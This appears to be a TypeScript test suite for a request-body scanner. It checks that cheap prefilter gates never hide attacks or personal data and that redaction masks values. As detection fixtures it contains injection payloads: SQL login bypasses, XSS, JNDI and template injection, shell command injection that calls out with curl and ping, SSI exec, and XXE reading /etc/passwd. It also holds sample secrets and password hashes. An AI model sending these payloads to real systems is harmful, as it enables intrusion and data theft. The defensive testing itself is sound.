// The body scanners dismiss most values with cheap byte-class gates before running a detector
// (filter/inspect/prefilter.ts). A gate may let a harmless value through to the detectors, but must never
// hide one a detector flags: every labelled corpus value, and variants of it, is run through the detectors
// directly and inside a JSON body, and the JSON scan must report the same class.
import { test } from "node:test";
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { loadHarnessExports, withBytes as withHarnessBytes } from "./harness.ts";

// By AttackClass number (filter/inspect/attack.ts); 9-13 are not value classes.
const ATTACK_CLASSES = ["sqli", "xss", "traversal", "rfi", "cmdi", "ssrf", "xxe", "jndi", "ssti", "protocol", "malware", "exfiltration", "limits", "graphql", "prototype_pollution", "session_fixation", "scanner"];
const PII_TYPES = ["card", "ssn", "iban", "email", "phone", "ipv4", "ipv6", "jwt", "secret", "password", "dob"];
const h = loadHarnessExports() as ReturnType<typeof loadHarnessExports> & {
  inspect(p: number, n: number, kind: number, redact: number): number; findingType(i: number): number; findingAttack(i: number): number;
  attackAny(p: number, n: number): number; setLimits(d: number, f: number): void; findingCount(): number;
};
const withBytes = <T>(s: string, f: (ptr: number, len: number) => T): T => withHarnessBytes(h, s, f);
function scanJson(body: string): { attacks: Set<string>; pii: Set<string> } {
  return withBytes(body, (p, n) => {
    h.inspect(p, n, 0, 0);
    const count = h.findingCount(); // also past a limit (inspect then returns -1)
    const attacks = new Set<string>(), pii = new Set<string>();
    for (let i = 0; i < count; i++) {
      const a = h.findingAttack(i), t = h.findingType(i);
      if (a >= 0 && a < ATTACK_CLASSES.length) attacks.add(ATTACK_CLASSES[a]);
      if (t >= 0 && t < PII_TYPES.length) pii.add(PII_TYPES[t]);
    }
    return { attacks, pii };
  });
}

// Deterministic variants: case flips, spaces doubled, tabs for spaces, wrapped in prose.
function variants(v: string, seed: number): string[] {
  let x = seed >>> 0 || 1;
  const rnd = () => ((x = (x * 1103515245 + 12345) >>> 0) / 2 ** 32);
  const flip = [...v].map((c) => (rnd() < 0.5 ? c.toUpperCase() : c.toLowerCase())).join("");
  return [v, flip, v.replace(/ /g, "  "), v.replace(/ /g, "\t"), v.trim(), `${v} `];
}

const attacks = JSON.parse(readFileSync(new URL("../corpus/attacks.json", import.meta.url), "utf8")) as Array<{ value: string; label: string }>;

test("no attack the detectors flag is hidden by the JSON scanner's gates (corpus values and variants)", () => {
  let checked = 0, flagged = 0;
  const hidden: string[] = [];
  attacks.forEach((s, k) => {
    for (const v of variants(s.value, k + 1)) {
      const direct = withBytes(v, (p, n) => h.attackAny(p, n));
      checked++;
      if (direct === 255) continue;
      flagged++;
      const viaJson = scanJson(JSON.stringify({ comment: v }));
      // A value that is also PII (e.g. an SSRF URL holding an IP) is reported as PII by design.
      if (!viaJson.attacks.has(ATTACK_CLASSES[direct]) && viaJson.pii.size === 0) hidden.push(`${ATTACK_CLASSES[direct]}: ${JSON.stringify(v)}`);
    }
  });
  assert.ok(flagged > 500, `only ${flagged} of ${checked} variants flagged directly: the corpus did not load`);
  assert.deepEqual(hidden, [], `${hidden.length} attacks hidden by the gates`);
});

test("no PII value the detectors find is hidden by the JSON scanner's gates", () => {
  const pii = JSON.parse(readFileSync(new URL("../corpus/pii.json", import.meta.url), "utf8")) as Array<{ value: string; key: string; label: string; number?: boolean }>;
  const hidden: string[] = [];
  let found = 0;
  for (const s of pii) {
    if (s.number) continue;
    const direct = withBytes(s.value, (vp, vn) => withBytes(s.key, (kp, kn) => h.piiType(vp, vn, kp, kn, 0)));
    if (direct === 255) continue;
    found++;
    const viaJson = scanJson(JSON.stringify({ [s.key]: s.value }));
    if (!viaJson.pii.has(PII_TYPES[direct])) hidden.push(`${s.key}=${s.value} (${PII_TYPES[direct]})`);
  }
  assert.ok(found > 150, `only ${found} PII values found directly`);
  assert.deepEqual(hidden, []);
});

test("PII inside prose is found, version strings and plain prose are not", () => {
  const cases: Array<[string, string[]]> = [
    ["Please call me at +1 415 555 2671 or write to alice@example.com tomorrow", ["email", "phone"]],
    ["Card on file: 4111 1111 1111 1111, expires soon", ["card"]],
    ["My SSN is 123-45-6789.", ["ssn"]],
    ["Upgraded to version 1.2.3.4 yesterday, build 10.0.0.1", []],
    ["Please leave the parcel at the front desk, thanks!", []],
    ["Order 4111111111111112 shipped", []],
    ["IBAN: GB82 WEST 1234 5698 7654 32", ["iban"]],
    ["call +1 (415) 555-2671 tomorrow", ["phone"]],
    ["phone: +44 20 7946 0958", ["phone"]],
    ["key AKIAQ7LMZ2HNVW4TXKRB leaked", ["secret"]],
    ["Amex 3782 822463 10005 on file", ["card"]],
    ["IMEI 490154203237518, EAN 4006381333931, ISBN 978-3-16-148410-0", []],
    ["tracking 1Z999AA10123456784, build 10.0.19041.1, room 101", []],
    // Two cards one after the other are two cards, not one 32-digit number.
    ["cards 4111 1111 1111 1111 5500 0000 0000 0004 on file", ["card"]],
    // National numbers need a word that names a phone.
    ["call me at (212) 555-1234 tomorrow", ["phone"]],
    ["my cell: 212-555-1234", ["phone"]],
    ["order 212-555-1234 shipped", []],
    // ... except the North American "(NXX) NXX-XXXX", whose shape alone says phone.
    ["order (212) 555-1234 shipped", ["phone"]],
    // A newline separates words like a space does.
    ["line one\nalice@example.com\nline three", ["email"]],
  ];
  for (const [text, want] of cases) {
    const got = [...scanJson(JSON.stringify({ note: text })).pii].sort();
    assert.deepEqual(got, want.sort(), text);
  }
});

// Prose in any body kind: the JSON string, a form field and a text body are read alike.
function scanKind(kind: number, body: string): Set<string> {
  return withBytes(body, (p, n) => {
    h.inspect(p, n, kind, 0);
    const pii = new Set<string>();
    for (let i = 0; i < h.findingCount(); i++) { const t = h.findingType(i); if (t >= 0 && t < PII_TYPES.length) pii.add(PII_TYPES[t]); }
    return pii;
  });
}
test("words in prose name the value after them (password, date of birth, SSN) and shapes prose writes (ports, zones, PEM, webhooks)", () => {
  const pem = "-----BEGIN EC PRIVATE KEY-----\nMHcCAQEEIBx4kq9Jc0mZ2Rk8fL3pQ7aV1sWnT6yEoD5uH2gC8bX9oAoGCCqGSM49\nAwEHoUQDQgAE7nR2w==\n-----END EC PRIVATE KEY-----";
  const cases: Array<[string, string[]]> = [
    ["my password is hunter22", ["password"]],
    ["login: admin, password: Tr0ub4dor&3 (temporary)", ["password"]],
    ["db_password=s3cr3t-value;host=db", ["password"]],
    ["Forgot your password? Click here to reset it.", []],
    ["Password: at least 8 characters, one digit", []],
    ["The password field is required", []],
    ["login as admin with pwd Hx82kq!z today", ["password"]],
    ["use a password manager like 1Password", []],
    ["password reset sent 2 minutes ago", []],
    ["env: HOME=/home/alice PWD=/home/alice/src SHELL=/bin/bash", []],
    // A quoted password word with no separator after it is mentioned, not naming a value (BLNS's XXE line).
    ['<!ENTITY xxe SYSTEM "file:///etc/passwd" >]><foo>&xxe;</foo>', []],
    ['the "password" >= 12 chars rule (see #4411)', []],
    ['{"password" : "Tr0ub4dor&3"}', ["password"]],
    // Password names as code and config write them: camelCase tails, an identifier's _PASS, a Ruby symbol,
    // a command-line flag; not a call, a reference, nginx's proxy_pass or a placeholder.
    ['"AdminPassword" : "Qw7!rt-Ui0p"', ["password"]],
    ["private const string PfxPassword = \"Zk3#pLm9Qa\";", ["password"]],
    ["DB_PASS=s1mpl3xy", ["password"]],
    [":password       => '4ian1234',", ["password"]],
    ["Connect-VIServer -Server vc01 -User admin -Password VMw4re1!", ["password"]],
    ["mysql --password=Sup3r!Secret app", ["password"]],
    ["getPassword = function () { return this.pw }", []],
    ["password: process.env.DB_PASS", []],
    ["var password = signer.getDateTime() + 'Z'", []],
    ["setThePassword(urlRecord, passwordString)", []],
    ["proxy_pass http://app_upstream;", []],
    ["--user my-username --password my-password", []],
    ["(&(uid=admin)(userPassword=*))", []],
    // A bearer credential written out is a secret whatever its format; the scheme named in prose, a
    // placeholder or a JWT header cut short is none.
    ["Authorization: Bearer 8f3kLm92QaZx7Pq1Rt5Vw0Yb4Nc6", ["secret"]],
    ["curl -s -H 'Authorization: token 8f3kLm92QaZx7Pq1Rt5Vw0Yb4Nc6' https://ci.internal", ["secret"]],
    ["Authorization: SSWS 00QCjAl4MlV-WPXM-Zq81LmN0TRs-0HmjFx-vbGua", ["secret"]],
    ["the bearer token is required; send Bearer YOUR_TOKEN_HERE", []],
    ["Bearer eyJhbGciOiJIUzI1NiJ9", []],
    ["the token 8f3kLm92QaZx7Pq1Rt5Vw0Yb4Nc6x has expired", []],
    // Password hashes: a shadow file's line (what a path traversal returns), a user record's bcrypt hash.
    ["root:$6$rounds=5000$saltstring$svn8UoSVapNtMuq1ukKS4tPQd8iKwSMHWjl/O817G3uBnIFNjnQJuesI68u4OTLiBFdcbYEdFCoEOfaS35inz1:19000:0:99999:7:::", ["password"]],
    ["hash $2b$12$R9h/cIPz0gi.URNNX3kh2OPST9/PgBkqquzi.Ss7KIUgO2t0jWMUW stored", ["password"]],
    ["$y$j9T$F5Jx5fExrKuJdhqHy1G$yKQmT0Ai4QDd3aJpn4yJBHV9Gx1vY9v5kJHl3hYr2o7", ["password"]],
    ["$argon2id$v=19$m=65536,t=3,p=4$c29tZXNhbHRzb21l$RdescudvJCsgt3ub+b+dWRWJTmaaJObG", ["password"]],
    ["daemon:*:19000:0:99999:7:::", []],
    ["$2b$12$xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx", []],
    ["costs $1$ per unit, $5$ in total", []],
    // An env file's *_TOKEN names a credential; placeholders and format look-alikes under it are none.
    ["export JENKINS_TOKEN=11f4274ec59be12eace9a08b08ee13d54b", ["secret"]],
    ["FOO_TOKEN=AKIAIOSFODNN7EXAMPLE", []],
    ["FOO_TOKEN=sk_test_YOUR_STRIPE_SECRET_KEY_HERE", []],
    ["NEXT_PAGE_TOKEN=eyJvZmZzZXQiOjEwMH0x", []],
    // Base64 in a log line that decodes to an env file with a password: the encoded token is the finding.
    [`loaded ${Buffer.from("DB_PASSWORD=Tr0ub4dor&3\nDEBUG=false\n").toString("base64")} from vault`, ["password"]],
    [`build ${Buffer.from("just some harmless configuration text").toString("base64")} ok`, []],
    ["password policy: 12 chars, rotate every 90 days", []],
    // A two-digit area code in parentheses after a phone word; "my registered" before a number.
    ["Name: Sieda Batukayev\nPhone: (99) 645-791", ["phone"]],
    ["no message on my registered 905-674-3793. Could you look into it?", ["phone"]],
    ["see note (12) 345-678 in the appendix", []],
    ["DOB: 17 Jan 1956", ["dob"]],
    ["I was born on 07/18/1976.", ["dob"]],
    ["date of birth July 18, 1941", ["dob"]],
    ["She was born in 1990 in Ohio", []],
    ["Birthday party on Saturday at 5", []],
    ["social security number: 078 05 1123", ["ssn"]],
    ["Connection from 10.20.30.40:443 refused", ["ipv4"]],
    ["Server IP: fe80::1%eth0", ["ipv6"]],
    ["connecting from ::1", ["ipv6"]],
    [`use this key ${pem} and delete it`, ["secret"]],
    ["post to https://hooks.slack.com/services/T0A1B2C3D/B0A1B2C3D/abcdefghijklmnopqrstuvwx now", ["secret"]],
    // Key material with no digit at all is read when the prose has punctuation or digits (the gate that keeps
    // everyday prose cheap): "key: AKIA…" is, "my key is AKIA…, keep it" alone is not.
    ["the key: AKIAQWERTYUIOPASDFGH, keep it", ["secret"]],
    ["token=glpat-abcdefghijKLMNOPQRST", ["secret"]],
    ["pay with Maestro 6759 6498 2643 8453", ["card"]],
    ["Serial no. 4007578483811 printed on the box", []], // a valid EAN-13 that is also Luhn-valid
    ["tracking number 521650081238 updated", []],
    ["My Japanese number is 090-1234-5678", ["phone"]],
    ["order number 2024-000123 and account number 0012345678", []],
    ["card number 3782 822463 10006 (a typo)", []],
    // A label and a colon before the value; punctuation around a value with no space in it.
    ["mailto:john.doe@example.com", ["email"]],
    ["tel:+14155552671", ["phone"]],
    ["ip:10.1.2.3", ["ipv4"]],
    ["IP=192.168.0.12", ["ipv4"]],
    ["SSN#078-05-1120", ["ssn"]],
    ["<alice@example.com>", ["email"]],
    ["IBAN:DE89370400440532013000", ["iban"]],
    ["https://example.com:8443/path?id=1234567", []],
    ["urn:isbn:9783161484100", []],
    // A secret named the way a field name names it; D.O.B.
    ["export AWS_SECRET_ACCESS_KEY=q3Zk8Lm2Vb/R4tYw8NcH3sJf7Pq1Xz9Dk5Wn0Ea", ["secret"]],
    ["export AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", []],
    ["client_secret: 8f1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d", ["secret"]],
    ["the api_key field is optional", []],
    ["D.O.B. 02/01/1990", ["dob"]],
    // A product version in a User-Agent is not an address; an address in a URL is.
    ["Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36", []],
    ["see http://10.20.30.40/admin for the console", ["ipv4"]],
    // Lists joined by commas alone are read item by item; numbers with thousands separators are no PII.
    ["alice@example.com,bob@example.org", ["email"]],
    ["10.1.2.3,10.1.2.4", ["ipv4"]],
    ["4111111111111111,5500000000000004", ["card"]],
    ["1,234,567,890", []],
    // Secret formats of gitleaks' rules in prose: base64 with '/' and '=', a webhook without a scheme, a
    // routable GitLab token; the documented example key is not one.
    [`bedrock key ${"ABSKQmVkcm9ja0FQSUtleS1" + "k3R9xq/zL2mW+T8sYb4N".repeat(5) + "Hq7Jd="} rotated`, ["secret"]],
    ["hook hooks.slack.com/triggers/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 now", ["secret"]],
    ["token glpat-k3R9xqPzL2mWvT8sYb4NHq7Jd_a.01b7x2k9q rotated", ["secret"]],
    ["sample key AKIAIOSFODNN7EXAMPLE from the docs", []],
    // A key id and its secret joined by a colon; quoted names before a colon (JSON or YAML kept as text).
    ["creds AKIAQ7LMZ2HNVW4TXKRB:k3R9xqPzL2mWvT8sYb4NHq7Jd2 leaked", ["secret"]],
    ['{"client_secret": "8f1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d", "region": "eu"}', ["secret"]],
    ['{"dob": "1990-01-02", "plan": "gold"}', ["dob"]],
    ["api_key: 'k3R9xqPzL2mWvT8sYb4NHq7Jd2'", ["secret"]],
    // A service's token named as CI and env files name it; camelCase names; a pagination token is none.
    ["GITLAB_TOKEN=ABc123456789dEFghIJK", ["secret"]],
    ['{"npmToken": "k3R9xqPzL2mWvT8sYb4NHq7Jd2xy"}', ["secret"]],
    ['{"nextToken": "ABc123456789dEFghIJK"}', []],
    // Credentials in URLs: a connection string's password, a token as the user name; a user name alone is
    // no credential.
    ["DATABASE_URL=postgres://app:S3cr3tPa55@db.example.com:5432/app", ["password"]],
    ["clone https://ci:ghp_k3R9xqPzL2mWvT8sYb4NHq7Jd2xyZa1bC9dE@github.com/acme/app.git", ["secret"]],
    ["clone https://ghs_k3R9xqPzL2mWvT8sYb4NHq7Jd2xyZa1bC9dE@github.com/acme/app.git", ["secret"]],
    ["clone ssh://git@github.com/acme/app.git", ["email"]],
    // A card named in the words before it counts outside the main issuers' ranges (Maestro's 12 digits, JCB's
    // old 1800 range, 35xx numbers); a SIM card's ICCID (89…) does not. A phone's kind written after it, an
    // extension, "answering at".
    ["I want to cancel my card 180018529630745 because I lost it", ["card"]],
    ["What is the limit for card 501818529635?", ["card"]],
    ["my credit card 3502185296307412 has been lost", ["card"]],
    ["SIM card 8944185296307418527 activated", []],
    ["They're not answering at 780-999-2181", ["phone"]],
    ["085 175 7641-Office, 930.167.3943 fax", ["phone"]],
    ["Fax: 259.735.7502x459", ["phone"]],
    ["1.29.0 / 2017-07-10 registered font/otf", []],
    // A documentation placeholder for the password is none.
    ["REDIS_URL=redis://username:password@localhost:6379/0", []],
    ["connect to uri://user:pass@example.com:123/one and wait", []],
    ["credentials: { secretAccessKey: env.AWS_SECRET_ACCESS_KEY, sessionToken: env.AWS_SESSION_TOKEN }", []],
    ["assert(req.headers['proxy-authorization'] == 'Basic Zm9vOmJhcg==');", []],
    // HTTP Basic credentials written out (a log line, a curl command, a header kept in a record); a Docker
    // config's auth value; "Basic realm=" is a challenge, no credential.
    ["curl -H 'Authorization: Basic YWRtaW46aHVudGVyMg==' https://api.example.com/v1/users", ["password"]],
    ["Basic ZGVwbG95OlRyMHViNGRvciYz", ["password"]],
    ['{"auths":{"ghcr.io":{"auth":"dXNlcjpnaHBfazNSOXhxUHpMMm1XdlQ4c1liNE5IcTdKZDJ4eVphMWJDOWRF"}}}', ["secret"]],
    ['WWW-Authenticate: Basic realm="api", charset="UTF-8"', []],
    // Google OAuth access tokens; a PEM key base64-encoded (a Kubernetes Secret's tls.key).
    ["access_token: ya29.a0AfH6SMBx3k9QpL2mWvT8sYb4NHq7Jd2xyZa1bC9dE", ["secret"]],
    [`tls.key ${Buffer.from("-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA3Tz2mr7SZiAMfQyuvBjM9OiJq+K7/Zx9kQpLm2VbR4tYw8Nc\n-----END RSA PRIVATE KEY-----\n").toString("base64")} rotated`, ["secret"]],
  ];
  for (const [text, want] of cases) {
    for (const [kind, body] of [[0, JSON.stringify({ note: text })], [1, `a=1&comment=${encodeURIComponent(text)}`], [2, text]] as Array<[number, string]>) {
      assert.deepEqual([...scanKind(kind, body)].sort(), want.sort(), `kind ${kind}: ${text}`);
    }
  }
});

test("a password named in prose is masked alone, in JSON and in a form field", () => {
  const body = JSON.stringify({ note: "my password is hunter22, thanks" });
  const out = withBytes(body, (p, n) => { h.inspect(p, n, 0, 1); return Buffer.from(new Uint8Array(h.memory.buffer, p, n)).toString(); });
  assert.equal(JSON.parse(out).note, "my password is ********, thanks");
  const form = `a=1&comment=${encodeURIComponent("DOB: 17 Jan 1956")}&b=2`;
  const outForm = withBytes(form, (p, n) => { h.inspect(p, n, 1, 1); return Buffer.from(new Uint8Array(h.memory.buffer, p, n)).toString(); });
  assert.ok(!outForm.includes("1956") && outForm.startsWith("a=1&comment=") && outForm.endsWith("&b=2"), outForm);
  // Unescaped form prose: only the value's bytes are masked ('+' stands for a space, one byte either way).
  const plain = "a=1&comment=call+me+at+%2B1+415+555+2671&note=my+password+is+hunter22+ok&b=2";
  const outPlain = withBytes(plain, (p, n) => { h.inspect(p, n, 1, 1); return Buffer.from(new Uint8Array(h.memory.buffer, p, n)).toString(); });
  assert.ok(outPlain.includes("&note=my+password+is+********+ok&b=2"), outPlain);
  assert.ok(!outPlain.includes("2671"), outPlain);
});

test("redaction of PII inside prose masks only the value and keeps the JSON valid", () => {
  const body = JSON.stringify({ note: "write to alice@example.com or call", n: 1 });
  const out = withBytes(body, (p, n) => { h.inspect(p, n, 0, 1); return Buffer.from(new Uint8Array(h.memory.buffer, p, n)).toString(); });
  assert.equal(JSON.parse(out).note, "write to *****@*******.*** or call");
});

test("two cards written back to back in prose are both redacted", () => {
  const body = JSON.stringify({ note: "cards 4111 1111 1111 1111 5500 0000 0000 0004 on file" });
  const out = withBytes(body, (p, n) => { h.inspect(p, n, 0, 1); return Buffer.from(new Uint8Array(h.memory.buffer, p, n)).toString(); });
  assert.equal(JSON.parse(out).note, "cards **** **** **** 1111 **** **** **** 0004 on file");
});

test("past the depth limit the rest of the body is still searched for PII; past the field limit the scan goes on", () => {
  const deep = "[".repeat(70) + JSON.stringify({ email: "bob@example.com" }) + "]".repeat(70);
  assert.ok(scanJson(deep).pii.has("email"), "PII after the depth limit");
  const many = JSON.stringify(Object.fromEntries([...Array.from({ length: 12000 }, (_, i) => [`k${i}`, i]), ["email", "carol@example.com"]]));
  h.setLimits(64, 10000);
  try { assert.ok(scanJson(many).pii.has("email"), "PII after the field limit"); } finally { h.setLimits(64, 10000); }
});

// The SQL-word gate reads a value's last partial 16-byte block with one vector load when the memory holds 16
// bytes there. A value that ends at the last byte of linear memory (a truncated JSON string as the last
// bytes of a body there) must be read byte by byte instead: no trap, and the same verdict as elsewhere.
test("a value ending at the last byte of linear memory is read without a trap, with the same verdict", () => {
  for (const body of ['{"q":"1 union select 2', '{"q":"x\' or 1=1', '{"note":"Please leave the parcel at the front desk', '{"q":"union all select password from users']) {
    const bytes = Buffer.from(body);
    const expected = scanJson(body);
    const mem = new Uint8Array(h.memory.buffer);
    const at = mem.length - bytes.length;
    const saved = Buffer.from(mem.subarray(at)); // the heap's free tail: restored after
    try {
      mem.set(bytes, at);
      h.inspect(at, bytes.length, 0, 0);
      const attacks = new Set<string>();
      for (let i = 0; i < h.findingCount(); i++) { const a = h.findingAttack(i); if (a >= 0 && a < ATTACK_CLASSES.length) attacks.add(ATTACK_CLASSES[a]); }
      assert.deepEqual([...attacks], [...expected.attacks], body);
    } finally { new Uint8Array(h.memory.buffer).set(saved, at); }
    if (body.includes("select")) assert.ok(expected.attacks.has("sqli"), `${body}: sqli expected`);
  }
});

// ISO 8601 dates and date-times skip the PII and attack detectors (no type has their shape; most API records
// carry one). The gate must not hide a date of birth named by its key, nor anything glued to a date.
test("ISO dates skip the detectors, but a birth date by its key and values around a date are still found", () => {
  const clean = scanJson('{"createdAt":"2026-11-23T10:15:00Z","updated":"2026-11-23T10:15:00.123456+01:00","day":"2026-11-23","2026-11-24":1}');
  assert.deepEqual([...clean.pii, ...clean.attacks], []);
  assert.ok(scanJson('{"dob":"1990-01-02"}').pii.has("dob"));
  assert.ok(scanJson('{"date_of_birth":"1990-01-02T00:00:00Z"}').pii.has("dob"));
  assert.ok(scanJson('{"x":"2026-11-23T10:15:00Z alice@example.com"}').pii.has("email"));
  assert.ok(scanJson('{"x":"2026-11-23T10:15:00Z\' or \'1\'=\'1"}').attacks.has("sqli"));
});

// A password named by a quoted keyword in text ("password":"hunter2" as text/plain, or JSON read as text too):
// the value after the separator is the password, not the keyword's closing quote.
test("a quoted password keyword in text masks the password, and JSON read both ways stays valid JSON", async () => {
  const { loadHarness } = await import("./harness.ts");
  const hh = loadHarness();
  const text = hh.inspect(Buffer.from('creds "password":"hunter2" end'), 2, true).out.toString();
  assert.ok(!text.includes("hunter2"), text);
  const both = hh.inspect(Buffer.from('{"email":"ann@example.com","password":"hunter2"} trailing words'), 0, true).out.toString();
  assert.ok(!both.includes("hunter2"), both);
  assert.deepEqual(Object.keys(JSON.parse(both.slice(0, both.indexOf("}") + 1))), ["email", "password"]);
});

// The SQL detector is skipped for values of letters, digits and . / \ _ (and '-' or ':' without a SQL word), and
// for values with no quote, parenthesis, comment or operator byte (; # * @ | < > ! \ $ newline &&) and no SQL
// word: UUIDs, slugs, MIME types, time zones, MAC addresses, URLs with a query. SQL spelled so is still read.
test("the SQL gate skips identifiers and paths, not SQL spelled with dashes or colons", () => {
  const cls = (s: string) => withBytes(s, (p, n) => h.attackAny(p, n));
  for (const s of ["select-1", "1-union-select-1", "union-select-1", "1 && 1 = 1", "id=1 or 1=1", " ORDER BY 4--", "order by sleep(5)#"]) assert.equal(cls(s), 0, s);
  // '#' before a digit is a number, not a template directive; '#' before a letter or '{' still is.
  assert.equal(cls("Order #10000 shipped on 2026-11-20 via UPS."), 255);
  for (const s of ["#set($a = 7*7)$a", "#{7*7}"]) assert.equal(cls(s), 8, s);
  for (const s of ["550e8400-e29b-41d4-a716-446655440000", "my-first-blog-post-2026", "application/json", "Europe/Berlin", "00:1A:2B:3C:4D:5E", "/var/lib/app/data/file.txt", "https://cdn.example.com/img/1/photo.png?w=200&h=100"]) assert.equal(cls(s), 255, s);
});

test("a base64 value that decodes to text with PII is found and masked whole; ids and hashes are not", () => {
  const b64 = (s: string) => Buffer.from(s).toString("base64");
  const secrets = { token: b64("ghp_k3R9xqPzL2mWvT8sYb4NHq7Jd2xyZa1bC9dE"), url: b64("postgres://app:S3cr3tPa55@db.example.com:5432/app"), env: b64("DB_PASSWORD=Tr0ub4dor&3\nDEBUG=false\n") };
  const body = JSON.stringify({ kind: "Secret", data: secrets });
  assert.deepEqual([...scanKind(0, body)].sort(), ["password", "secret"]);
  const out = withBytes(body, (p, n) => { h.inspect(p, n, 0, 1); return Buffer.from(new Uint8Array(h.memory.buffer, p, n)).toString(); });
  const data = JSON.parse(out).data as Record<string, string>;
  for (const [k, v] of Object.entries(secrets)) assert.equal(data[k], "*".repeat(v.length), `${k} masked whole`);
  // Not text when decoded: ids, hashes, UUIDs, random tokens; text without PII.
  for (const v of ["550e8400-e29b-41d4-a716-446655440000", "d41d8cd98f00b204e9800998ecf8427e", "q9Xb2LmV7tR4sPz8WkYcN3hJ5dF6gA1e", b64("just some harmless configuration text here")]) {
    assert.deepEqual([...scanKind(0, JSON.stringify({ v }))], [], v);
  }
});

test("a Docker config's auth value (base64 of user:password) is a credential, also inside a Secret's .dockerconfigjson", () => {
  const b64 = (s: string) => Buffer.from(s).toString("base64");
  const config = { auths: { "registry.example.com": { auth: b64("deploy:Hx82kq!zT4") }, "ghcr.io": { auth: b64("ci-bot:ghp_k3R9xqPzL2mWvT8sYb4NHq7Jd2xyZa1bC9dE") } } };
  assert.deepEqual([...scanKind(0, JSON.stringify(config))].sort(), ["password", "secret"]);
  const out = withBytes(JSON.stringify(config), (p, n) => { h.inspect(p, n, 0, 1); return Buffer.from(new Uint8Array(h.memory.buffer, p, n)).toString(); });
  assert.equal(JSON.parse(out).auths["registry.example.com"].auth, "*".repeat(config.auths["registry.example.com"].auth.length));
  const secret = { kind: "Secret", type: "kubernetes.io/dockerconfigjson", data: { ".dockerconfigjson": b64(JSON.stringify(config)) } };
  assert.ok(scanKind(0, JSON.stringify(secret)).size > 0, "nested in the Secret");
  // Placeholders and values that are no pair stay clean.
  for (const auth of [b64("foo:bar"), b64("username"), b64("user:password"), "c29tZXRoaW5nIGVsc2U="]) {
    assert.deepEqual([...scanKind(0, JSON.stringify({ auths: { r: { auth } } }))], [], auth);
  }
});

test("an echoed request's Authorization header keeps its scheme and loses its credential", () => {
  const body = JSON.stringify({ url: "/anything", headers: { Authorization: "Bearer 8f3kLm92QaZx7Pq1Rt5Vw0Yb4Nc6", Accept: "application/json" } });
  assert.deepEqual([...scanKind(0, body)], ["secret"]);
  const out = withBytes(body, (p, n) => { h.inspect(p, n, 0, 1); return Buffer.from(new Uint8Array(h.memory.buffer, p, n)).toString(); });
  assert.equal(JSON.parse(out).headers.Authorization, "Bearer " + "*".repeat(28));
});

test("a password or secret field is still read for the attacks such a field is sent, not for its symbols", () => {
  // The login bypass in the password field, as JSON and as a form; markup, lookups and templates in a key field.
  for (const [body, attack] of [
    [JSON.stringify({ username: "admin", password: "' or '1'='1" }), "sqli"], [JSON.stringify({ password: "'or'1'='1" }), "sqli"],
    [JSON.stringify({ password: "admin' -- " }), "sqli"], [JSON.stringify({ password: "admin' #" }), "sqli"], [JSON.stringify({ password: "<script>alert(1)</script>" }), "xss"],
    [JSON.stringify({ api_key: "${jndi:ldap://x.example/a}" }), "jndi"], [JSON.stringify({ password: "{{7*7}}" }), "ssti"],
    // percent-encoded inside JSON, a concatenation around a call, MongoDB $where code after a quote
    [JSON.stringify({ api_key: "admin%27--" }), "sqli"], [JSON.stringify({ password: "admin%2527%2520%2523" }), "sqli"],
    [JSON.stringify({ password: "'||utl_http.request('httP://192.168.1.1/')||'" }), "sqli"], [JSON.stringify({ password: "' && this.password.match(/.*/)//+%00" }), "sqli"],
    [JSON.stringify({ password: "';return 'a'=='a' && ''=='" }), "sqli"],
    // commands a script gives a shell: substitution, a quote closed then ';' and a probe, Python run by the application
    [JSON.stringify({ password: "password$(curl c0ffee.example.net)" }), "cmdi"], [JSON.stringify({ password: "x';ping -c 2 c0ffee.example.net;echo '" }), "cmdi"],
    [JSON.stringify({ password: "g','');import os;os.system('id')#" }), "cmdi"],
    // what no typed password holds: an SSI directive (CSIC 2010's <!--#exec cmd="ls /"--> after a password), a line
    // break before a response header (raw, and percent-encoded twice as a form sends it inside JSON)
    [JSON.stringify({ password: "4mbel0c11362<!--#EXEC cmd=\"ls /\"-->" }), "cmdi"], [JSON.stringify({ pwd: "x<!--#include file=\"secret\" -->" }), "cmdi"],
    [JSON.stringify({ password: "any\r\nSet-cookie: Tamper=1041264011025374727" }), "protocol"], [JSON.stringify({ password: "any%250ASet-cookie%253A%2BTamper%253D1" }), "protocol"],
  ] as const) {
    const r = scanJson(body);
    assert.ok(r.attacks.has(attack), `${body}: ${[...r.attacks]}`);
    assert.ok(r.pii.has("password") || r.pii.has("secret"), `${body}: still a credential finding`);
  }
  // An e-mail's local part may hold quotes: the address is PII and the comment bypass an attack.
  for (const body of [JSON.stringify({ email: "admin'--@example.com" }), JSON.stringify({ email: "x' or 1=1--@example.com" })]) {
    const r = scanJson(body);
    assert.ok(r.attacks.has("sqli") && r.pii.has("email"), `${body}: ${[...r.attacks]} ${[...r.pii]}`);
  }
  for (const email of ["o'brien@example.com", "ann+news@example.com", "first.last-x@example.co.uk"]) assert.deepEqual([...scanJson(JSON.stringify({ email })).attacks], [], email);
  const form = withBytes("username=admin&password=%27%20or%20%271%27%3D%271", (p, n) => { h.inspect(p, n, 1, 0); const a = new Set<number>(); for (let i = 0; i < h.findingCount(); i++) a.add(h.findingAttack(i)); return a; });
  assert.ok(form.has(ATTACK_CLASSES.indexOf("sqli")), "form password");
  // Strong passwords spell quotes, semicolons, '&', '$(' and '|' by chance: no attack (nor "<!--" and '#', nor a
  // multi-line secret without a header line).
  for (const pw of ["<!--#", "a<!--#b", "-----BEGIN X-----\nMIIBOgIBAAJBAKj34GkxFhD90vcNLYLInFEX6Ppy1tPf9Cnzj4p4WGeKLs1Pt8Qu\n-----END X-----", "Tr0ub4dor&3;(x", "D3J+c@$F(l", "a'b;c\"d|e&f$(g)", "P@ss'w0rd--x", "q8#R!v$2&Lm^", "a'||b", "x%27y", "it's||fine", "-(\"!(PJXU4?}vPyX@Is~`e9", "MFQJJ`SH", "a';ping", "P@ss'|curl", "x$(g)y"]) {
    assert.deepEqual([...scanJson(JSON.stringify({ password: pw })).attacks], [], pw);
  }
});

